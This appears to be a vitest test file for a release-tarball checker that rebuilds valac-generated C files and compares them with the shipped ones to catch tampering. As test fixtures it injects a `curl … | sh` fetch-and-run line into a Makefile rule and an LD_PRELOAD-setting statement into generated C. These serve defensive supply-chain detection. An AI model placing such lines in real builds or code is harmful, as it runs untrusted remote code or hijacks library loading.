/**
 * The Vala compiler's outputs proved by regeneration (src/regenerate/vala.ts): C files whose banner names valac V,
 * written by a valac run of the tracked Makefile.am in their directory — automake's own Vala support (enchant's
 * `AM_VALAFLAGS` + `NAME_SOURCES` form, a `touch $@` source among them) or a rule running `$(VALAC) … -C` (libgee's
 * form, with -H/--vapi/--gir outputs and a `touch` of the stamp) — are made again in the sandbox by valac V (the
 * system's, Debian's valac, here) and compared byte for byte: identical → GENERATED_TOOL_PROVED; a shipped C file with
 * one extra statement → GENERATED_TOOL_MISMATCH (high) naming the first differing line; a banner naming a valac that is
 * not here → TARBALL_ONLY_UNEXPLAINED (high) with the command that adds it. The shipped files are what the system's
 * valac writes (run by the test on its own sources, as make would), the release a real tarball.
 */
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatFinding } from '../../src/core/codes.js';
import { parseMakefileAm, builtinVars } from '../../src/util/makefile.js';
import { applyBookkeeping, configureValaflags, firstDifference, orderRuns, shippedPath, valacArgs, valaRuns } from '../../src/regenerate/vala.js';
import { valacBanner, valacNamedVersion } from '../../src/regenerate/vala-version.js';
import { valaBuildSteps } from '../../src/regenerate/toolchain-git.js';
import { autotoolsRelease, byPath, sh } from './release.js';

const SRC_AM = `AM_VALAFLAGS = --no-color --vapidir=$(srcdir) --pkg extra --pkg gio-2.0
bin_PROGRAMS = demo-@DEMO_MAJOR@
BUILT_SOURCES = dummy.vala
dummy.vala: extra.vapi
\ttouch $@
demo_@DEMO_MAJOR@_SOURCES = \\
\tmain.vala \\
\tutil.vala \\
\t$(BUILT_SOURCES)
EXTRA_DIST = extra.vapi
`;
const LIB_AM = `lib_LTLIBRARIES = libdemo.la
libdemo_la_VALASOURCES = store.vala
libdemo_la_SOURCES = $(libdemo_la_VALASOURCES:.vala=.c)
libdemo_la_VALAFLAGS = \\
\t-H demo.h --vapi demo-1.vapi \\
\t--library demo-1 --gir Demo-1.gir \\
\t--pkg gio-2.0 \\
\t$(COVERAGE_VALAFLAGS) \\
\t$(NULL)
libdemo_la_vala.stamp: $(libdemo_la_VALASOURCES)
\t$(AM_V_VALAC)$(VALAC) $(VALAFLAGS) $(libdemo_la_VALAFLAGS) -C $(libdemo_la_VALASOURCES)
\t@touch demo-1.vapi demo.h libdemo_la_vala.stamp
EXTRA_DIST = $(libdemo_la_VALASOURCES) libdemo_la_vala.stamp
`;
const TESTS_AM = `tests_VALASOURCES = check.vala
tests_VALAFLAGS = \\
\t--vapidir $(top_srcdir)/lib \\
\t--pkg demo-1 --pkg gio-2.0 \\
\t$(VALAFLAGS)
tests_vala.stamp: $(tests_VALASOURCES)
\t$(AM_V_VALAC)$(VALAC) $(VALAFLAGS) $(tests_VALAFLAGS) -C $(tests_VALASOURCES)
\t@touch tests_vala.stamp
`;
const CHECK = `void main () {
\tvar s = new Demo.Store ();
\ts.add ("x");
#if CHECKS
\tassert (s.size == 1);
#endif
}
`;
// configure's VALAFLAGS as libgee's configure.ac and m4/valacheck.m4 give it: one literal flag, one behind an option off by default
const CONFIGURE_AC = `AC_INIT([demo], [1.0])
GLIB_REQUIRED=2.36
VALA_ADD_VALAFLAGS(--target-glib=$GLIB_REQUIRED)
AC_ARG_ENABLE(checks, [AS_HELP_STRING([--enable-checks], [Enable checks])],
              enable_checks=$enableval, enable_checks=no)
AS_IF([test "x$enable_checks" != xno], [VALA_ADD_VALAFLAGS(-D CHECKS)])
`;
const VALACHECK_M4 = `AC_DEFUN([VALA_ADD_VALAFLAGS],
[
    VALAFLAGS="\${VALAFLAGS:+$VALAFLAGS }$1"
])
`;
const MAIN = `int main (string[] args) {
\tvar d = new Demo.Greeter ("world");
\tprint ("%s\\n", d.greet ());
\treturn Extra.answer () == 42 ? 0 : 1;
}
`;
const UTIL = `namespace Demo {
\tpublic class Greeter : Object {
\t\tpublic string name { get; construct; }
\t\tpublic Greeter (string name) {
\t\t\tObject (name: name);
\t\t}
\t\tpublic string greet () {
\t\t\treturn "hello, " + name;
\t\t}
\t}
}
`;
const EXTRA = `[CCode (cheader_filename = "extra.h")]
namespace Extra {
\t[CCode (cname = "extra_answer")]
\tpublic int answer ();
}
`;
const STORE = `namespace Demo {
\tpublic class Store : Object {
\t\tprivate GenericArray<string> items = new GenericArray<string> ();
\t\tpublic void add (string item) {
\t\t\titems.add (item);
\t\t}
\t\tpublic uint size { get { return items.length; } }
\t}
}
`;

const systemValac = () => /^Vala (\S+)$/m.exec(spawnSync('valac', ['--version'], { encoding: 'utf8' }).stdout ?? '')?.[1];

const fixture = autotoolsRelease({
  prefix: 'distdiff-vala-',
  name: 'demo',
  files: { README: 'demo\n', 'configure.ac': CONFIGURE_AC, 'm4/valacheck.m4': VALACHECK_M4, 'tests/Makefile.am': TESTS_AM, 'tests/check.vala': CHECK, 'src/Makefile.am': SRC_AM, 'src/main.vala': MAIN, 'src/util.vala': UTIL, 'src/extra.vapi': EXTRA, 'lib/Makefile.am': LIB_AM, 'lib/store.vala': STORE },
  // the maintainer's `make dist`: the tag's files and what the two valac runs write, run as make runs them
  makeTree: (tree, repoDir) => {
    sh(repoDir, `git archive --format=tar v1.0 | tar -xf - -C '${tree}'`);
    sh(join(tree, 'src'), 'touch dummy.vala && rm -f demo_2_vala.stamp && echo stamp > demo_2_vala.stamp-t && valac --no-color --vapidir=. --pkg extra --pkg gio-2.0 --target-glib=2.36 -C main.vala util.vala dummy.vala && mv -f demo_2_vala.stamp-t demo_2_vala.stamp');
    sh(join(tree, 'lib'), 'valac --target-glib=2.36 -H demo.h --vapi demo-1.vapi --library demo-1 --gir Demo-1.gir --pkg gio-2.0 -C store.vala && touch demo-1.vapi demo.h libdemo_la_vala.stamp');
    sh(join(tree, 'tests'), 'valac --target-glib=2.36 --vapidir ../lib --pkg demo-1 --pkg gio-2.0 --target-glib=2.36 -C check.vala && touch tests_vala.stamp');
  },
  timeout: 120_000,
});

describe('valac outputs (pure)', () => {
  it("the banner: the C file's version, name and source; a .vapi's/.gir's first line names the version only", () => {
    expect(valacBanner('/* api.c generated by valac 0.56.17, the Vala compiler\n * generated from api.vala, do not modify */\n\n')).toEqual({ output: 'api.c', version: '0.56.17', source: 'api.vala' });
    expect(valacBanner('/* api.c generated by valac 0.56.17, the Vala compiler\n * generated from api.vala */\n')).toBeUndefined();
    expect(valacNamedVersion('/* gee-0.8.vapi generated by valac 0.56.17, do not modify. */\n')).toBe('0.56.17');
  });
  it("valac's words: sources and plain options; configure's @X@, an output or vapidir outside the tree, the C compiler's options, no -C refused", () => {
    expect(valacArgs(['--vapidir=.', '--pkg', 'gio-2.0', '-H', 'gee.h', '-C', 'a.vala', 'b.vapi'], 'gee')).toEqual({ args: ['--vapidir=.', '--pkg', 'gio-2.0', '-H', 'gee.h', '-C', 'a.vala', 'b.vapi'], sources: ['a.vala', 'b.vapi'] });
    expect(valacArgs(['--pkg', '@PKG@', '-C', 'a.vala'], '')).toEqual({ refused: '--pkg @PKG@ (configure fills it)' });
    expect(valacArgs(['-H', '/tmp/x.h', '-C', 'a.vala'], '')).toEqual({ refused: 'output /tmp/x.h outside the tree' });
    expect(valacArgs(['--vapidir', '../../x', '-C', 'a.vala'], 'lib')).toEqual({ refused: '--vapidir ../../x outside the tree' });
    expect(valacArgs(['-X', '-O2', '-C', 'a.vala'], '')).toEqual({ refused: 'option -X' });
    expect(valacArgs(['a.vala'], '')).toEqual({ refused: 'no -C (valac would run the C compiler)' });
    expect(valacArgs(['-C', 'a.c'], '')).toEqual({ refused: 'input a.c' });
  });
  it("the runs of a Makefile.am: automake's own rule (its stamp) and a rule running $(VALAC), its touch kept; any other command refuses the rule", () => {
    const runs = (files: Record<string, string>, am: string) => valaRuns(parseMakefileAm(am, (p) => files[p]), builtinVars('..'));
    const src = runs({ 'src/Makefile.am': SRC_AM }, 'src/Makefile.am');
    expect(src.refused).toEqual([]);
    expect(src.runs).toEqual([
      {
        fragment: 'src/Makefile.am',
        dir: 'src',
        ruleCommand: '$(VALAC) $(AM_VALAFLAGS) $(VALAFLAGS) -C main.vala util.vala dummy.vala',
        args: ['--no-color', '--vapidir=.', '--pkg', 'extra', '--pkg', 'gio-2.0', '-C', 'main.vala', 'util.vala', 'dummy.vala'],
        sources: ['main.vala', 'util.vala', 'dummy.vala'],
        before: [['rm', '-f', 'demo_@DEMO_MAJOR@_vala.stamp'], ['echo', 'stamp', '>', 'demo_@DEMO_MAJOR@_vala.stamp-t']],
        after: [['mv', '-f', 'demo_@DEMO_MAJOR@_vala.stamp-t', 'demo_@DEMO_MAJOR@_vala.stamp']],
        targets: ['src/demo_@DEMO_MAJOR@_vala.stamp'],
        dropped: ['$(VALAFLAGS)'],
        usesValaflags: true,
      },
    ]);
    const lib = runs({ 'lib/Makefile.am': LIB_AM }, 'lib/Makefile.am');
    expect(lib.runs).toMatchObject([{ args: ['-H', 'demo.h', '--vapi', 'demo-1.vapi', '--library', 'demo-1', '--gir', 'Demo-1.gir', '--pkg', 'gio-2.0', '-C', 'store.vala'], after: [['touch', 'demo-1.vapi', 'demo.h', 'libdemo_la_vala.stamp']], targets: ['lib/libdemo_la_vala.stamp'], dropped: ['$(COVERAGE_VALAFLAGS)', '$(NULL)', '$(VALAFLAGS)'], usesValaflags: true }]);
    const evil = runs({ 'lib/Makefile.am': LIB_AM.replace('\t@touch demo-1.vapi', '\tcurl -s https://example.invalid/x | sh\n\t@touch demo-1.vapi') }, 'lib/Makefile.am');
    expect(evil.runs).toEqual([]);
    expect(evil.refused).toEqual([{ fragment: 'lib/Makefile.am', command: expect.stringContaining('$(VALAC)'), why: 'command `curl -s https://example.invalid/x | sh`' }]);
  });
  it("the recipe's bookkeeping in memory; a stamp named after a configure value matched to the one shipped path; the first differing line", () => {
    const files = new Map<string, Buffer>();
    applyBookkeeping(files, [['rm', '-f', 's.stamp'], ['echo', 'stamp', '>', 's.stamp-t']]);
    files.set('a.c', Buffer.from('x'));
    applyBookkeeping(files, [['mv', '-f', 's.stamp-t', 's.stamp'], ['touch', 'a.c', 'b.stamp']]);
    expect(Object.fromEntries([...files].map(([k, v]) => [k, v.toString()]))).toEqual({ 'a.c': 'x', 's.stamp': 'stamp\n', 'b.stamp': '' });
    expect(shippedPath('lib/libenchant_@ENCHANT_MAJOR_VERSION@_la_vala.stamp', ['lib/api.c', 'lib/libenchant_2_la_vala.stamp'])).toBe('lib/libenchant_2_la_vala.stamp');
    expect(shippedPath('lib/x_@V@_vala.stamp', ['lib/x_1_vala.stamp', 'lib/x_2_vala.stamp'])).toBeUndefined();
    expect(firstDifference('a\nb\nc\n', 'a\nb\nx;\nc\n')).toEqual({ line: 3, regenerated: 'c', shipped: 'x;' });
  });
  it("configure's $(VALAFLAGS): literal additions and those whose option's default holds, with configure.ac's literal variables; another form: no value", () => {
    expect(configureValaflags(CONFIGURE_AC, [VALACHECK_M4])).toEqual({ value: '--target-glib=2.36', lines: ['configure.ac:3 VALAFLAGS += --target-glib=2.36', 'configure.ac:6 not added: -D CHECKS (enable_checks=no, its default)'] });
    expect(configureValaflags(CONFIGURE_AC.replace('enable_checks=no)', 'enable_checks=yes)'), [VALACHECK_M4])?.value).toBe('--target-glib=2.36 -D CHECKS');
    // no tracked definition appending to VALAFLAGS, a computed argument, an addition in another form: no value
    expect(configureValaflags(CONFIGURE_AC, [])).toBeUndefined();
    expect(configureValaflags(CONFIGURE_AC.replace('GLIB_REQUIRED=2.36', 'GLIB_REQUIRED=`pkg-config --modversion glib-2.0`'), [VALACHECK_M4])).toBeUndefined();
    expect(configureValaflags(`${CONFIGURE_AC}test -n "$X" && VALA_ADD_VALAFLAGS(-D X)\n`, [VALACHECK_M4])).toBeUndefined();
  });
  it('runs in the order the build makes them: the one writing a .vapi before the one reading it with --pkg', () => {
    const runs = (files: Record<string, string>, am: string) => valaRuns(parseMakefileAm(am, (p) => files[p]), builtinVars('..')).runs;
    const tests = runs({ 'tests/Makefile.am': TESTS_AM }, 'tests/Makefile.am')[0]!;
    const lib = runs({ 'lib/Makefile.am': LIB_AM }, 'lib/Makefile.am')[0]!;
    expect(orderRuns([{ run: tests }, { run: lib }]).map((p) => p.run.dir)).toEqual(['lib', 'tests']);
    expect(orderRuns([{ run: lib }, { run: tests }]).map((p) => p.run.dir)).toEqual(['lib', 'tests']);
  });
  it("the toolchain's build steps: the system's valac compiles the tag's compiler; only the compiler's parts built and installed", () => {
    expect(valaBuildSteps('/p')).toEqual([
      'mkdir -p m4',
      'touch ChangeLog',
      'autoreconf -v --install',
      "./configure --prefix='/p' --disable-valadoc GI_GIRDIR=/usr/share/gir-1.0",
      'make -C gee -j2',
      'make -C vala -j2',
      'make -C ccode -j2',
      'make -C codegen -j2',
      'make -C compiler -j2',
      'make -C vala install',
      'make -C ccode install',
      'make -C codegen install',
      'make -C compiler install',
      'make -C vapi install',
    ]);
  });
});

describe("valac's outputs made by the tracked Makefile.am, with the system's valac", () => {
  it('identical: every output proved (C, header, vapi, gir, stamps); a C file with one extra statement: high mismatch naming the line; another version: high with the command; regeneration off: high', async () => {
    const version = systemValac();
    expect(version).toMatch(/^\d+\.\d+\.\d+$/);
    const r = await fixture.run(fixture.tarball);
    const f = byPath(r.findings);
    const libOutputs = ['lib/Demo-1.gir', 'lib/demo-1.vapi', 'lib/demo.h', 'lib/libdemo_la_vala.stamp', 'lib/store.c'];
    const srcOutputs = ['src/demo_2_vala.stamp', 'src/dummy.c', 'src/main.c', 'src/util.c'];
    const testOutputs = ['tests/check.c'];
    // a stamp a lone `touch` line writes is explained before (GENERATED_FROM_SOURCE, low): left as it is
    expect(f['tests/tests_vala.stamp']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
    for (const p of [...libOutputs, ...srcOutputs, ...testOutputs]) expect(f[p], p).toMatchObject({ code: 'GENERATED_TOOL_PROVED', severity: 'info', evidence: { tool: 'valac', version } });
    expect(f['src/main.c']).toMatchObject({
      evidence: {
        source: 'src/main.vala',
        sources: ['src/main.vala', 'src/util.vala', 'src/dummy.vala'],
        rule: 'src/Makefile.am',
        command: ['valac', '--no-color', '--vapidir=.', '--pkg', 'extra', '--pkg', 'gio-2.0', '--target-glib=2.36', '-C', 'main.vala', 'util.vala', 'dummy.vala'],
        cwd: 'src',
        configure: ['configure.ac:3 VALAFLAGS += --target-glib=2.36', 'configure.ac:6 not added: -D CHECKS (enable_checks=no, its default)'],
        madeInputs: [{ path: 'src/dummy.vala', command: 'touch $@', empty: true }],
        outputs: srcOutputs,
      },
    });
    expect((f['lib/store.c']!.evidence as { outputs: string[] }).outputs).toEqual(libOutputs);
    // tests/ reads the .vapi lib/'s run writes (--pkg demo-1): that run first, its file in the tree
    expect(f['tests/check.c']).toMatchObject({ evidence: { command: ['valac', '--target-glib=2.36', '--vapidir', '../lib', '--pkg', 'demo-1', '--pkg', 'gio-2.0', '--target-glib=2.36', '-C', 'check.vala'], madeInputs: [{ path: 'lib/demo-1.vapi', rule: 'lib/Makefile.am', regenerated: true }], outputs: testOutputs } });
    expect((f['src/main.c']!.evidence as { dropped?: string[] }).dropped).toBeUndefined();
    expect(formatFinding(f['lib/store.c']!)).toBe(
      `reproduced by the system's valac ${version} from lib/store.vala: \`valac --target-glib=2.36 -H demo.h --vapi demo-1.vapi --library demo-1 --gir Demo-1.gir --pkg gio-2.0 -C store.vala\` in lib/ (the rule of lib/Makefile.am: \`$(AM_V_VALAC)$(VALAC) $(VALAFLAGS) $(libdemo_la_VALAFLAGS) -C $(libdemo_la_VALASOURCES); @touch demo-1.vapi demo.h libdemo_la_vala.stamp\`) then the rule's \`touch demo-1.vapi demo.h libdemo_la_vala.stamp\`, byte for byte; 5 outputs of the run identical; configure's $(VALAFLAGS): configure.ac:3 VALAFLAGS += --target-glib=2.36, configure.ac:6 not added: -D CHECKS (enable_checks=no, its default); not passed: $(COVERAGE_VALAFLAGS) $(NULL) (configure's values)`,
    );
    expect(Object.values(f).filter((x) => x.severity === 'high' || x.severity === 'critical').map((x) => `${x.code} ${x.path}`)).toEqual([]);

    // tampered twin: the shipped util.c with one extra statement in a function valac wrote
    const shipped = readFileSync(join(fixture.distDir, fixture.top, 'src/util.c'), 'latin1');
    const at = shipped.indexOf('\treturn result;\n');
    expect(at).toBeGreaterThan(0);
    const twin = `${shipped.slice(0, at)}\tg_setenv ("LD_PRELOAD", "/tmp/x.so", TRUE);\n${shipped.slice(at)}`;
    const r2 = await fixture.run(fixture.tampered((d) => writeFileSync(join(d, 'src/util.c'), twin, 'latin1')));
    const f2 = byPath(r2.findings);
    const line = twin.slice(0, at).split('\n').length;
    expect(f2['src/util.c']).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'valac', version, differingLines: 1, firstDifference: { line, regenerated: '\treturn result;', shipped: '\tg_setenv ("LD_PRELOAD", "/tmp/x.so", TRUE);' } } });
    expect(formatFinding(f2['src/util.c']!)).toContain(`1 line(s) of the shipped file differ (first at line ${line}: regenerated "\\treturn result;", shipped "\\tg_setenv (\\"LD_PRELOAD\\", \\"/tmp/x.so\\", TRUE);")`);
    // the run's other outputs are still what it writes
    expect(f2['src/main.c']).toMatchObject({ code: 'GENERATED_TOOL_PROVED' });
    expect(r2.verdict).toBe('different');

    // the same files claiming a valac that is not here: not run with this one, unexplained, naming what proves it
    const other = fixture.tampered((d) => {
      for (const p of ['src/main.c', 'src/util.c', 'src/dummy.c']) writeFileSync(join(d, p), readFileSync(join(d, p), 'latin1').replace(`generated by valac ${version},`, 'generated by valac 0.56.17,'), 'latin1');
    });
    const f3 = byPath((await fixture.run(other)).findings);
    expect(f3['src/main.c']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'version-unavailable', tool: 'valac', wanted: '0.56.17', available: version } } });
    expect(formatFinding(f3['src/main.c']!)).toContain('(add it: distdiff toolchain add --git https://gitlab.gnome.org/GNOME/vala.git --version 0.56.17;');
    expect(f3['lib/store.c']).toMatchObject({ code: 'GENERATED_TOOL_PROVED' });

    // regeneration off: unexplained, saying so
    const off = byPath((await fixture.run(fixture.tarball, { regenerate: 'off' })).findings)['lib/store.c']!;
    expect(off).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'regeneration-off', tool: 'valac' } } });
  }, 300_000);
});
